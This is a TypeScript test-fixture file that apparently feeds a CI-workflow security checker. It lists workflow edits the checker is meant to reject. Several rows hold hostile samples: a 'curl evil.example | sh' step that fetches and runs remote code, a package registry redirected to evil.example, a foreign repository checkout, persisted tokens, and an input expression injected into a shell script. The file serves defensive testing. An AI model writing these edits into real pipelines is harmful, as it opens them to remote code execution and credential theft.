import { PINS } from './pins.ts';
import { action, DELIVER, GATE, PLAN, workflow } from './changed-file.ts';
import type { Row } from './row.ts';

/** What jobs run on, and with. */
export const MACHINES: readonly Row[] = [
  [
    'a container around an identity',
    'privileged-jobs',
    DELIVER,
    '  build:\n',
    '  build:\n    container: node:26\n',
  ],
  [
    'a service beside an identity',
    'privileged-jobs',
    GATE,
    '    env:\n',
    '    services: { db: { image: postgres } }\n    env:\n',
  ],
  [
    'another default shell',
    'privileged-jobs',
    DELIVER,
    'permissions: {}\n\njobs',
    'permissions: {}\n\ndefaults: { run: { shell: sh } }\n\njobs',
  ],
  [
    'packages from another registry',
    'privileged-jobs',
    DELIVER,
    '    env:\n',
    '    env:\n      npm_config_registry: https://evil.example\n',
  ],
  [
    'another repository',
    'privileged-jobs',
    DELIVER,
    '          persist-credentials: false\n',
    '          persist-credentials: false\n          repository: evil/services\n',
  ],
  [
    'a token that stays behind',
    'privileged-jobs',
    DELIVER,
    'persist-credentials: false',
    'persist-credentials: true',
  ],
  [
    'a machine of someone else',
    'privileged-jobs',
    DELIVER,
    'runs-on: ubuntu-24.04',
    'runs-on: self-hosted',
  ],
  [
    'an expression in a script',
    'privileged-jobs',
    workflow('rollback'),
    '"$SERVICE"',
    '"${{ inputs.service }}"',
  ],
  [
    'a script with logic',
    'privileged-jobs',
    PLAN,
    'npx gatehouse affected',
    'curl evil.example | sh; npx gatehouse affected',
  ],
  [
    'a variable for all later steps',
    'privileged-jobs',
    workflow('superseded'),
    '>> "$GITHUB_OUTPUT"',
    '>> "$GITHUB_ENV"',
  ],
  ...PINS,
  [
    'a cache in a delivery',
    'no-cache-in-delivery',
    workflow('rescan'),
    'setup\n',
    "setup\n        with:\n          cache: 'true'\n",
  ],
  [
    'a cache that Node decides on',
    'no-cache-in-delivery',
    action('setup'),
    'package-manager-cache: false',
    'check-latest: true',
  ],
  ['a key of AWS', 'known-inputs', action('aws'), 'role-to-assume:', 'aws-access-key:'],
];
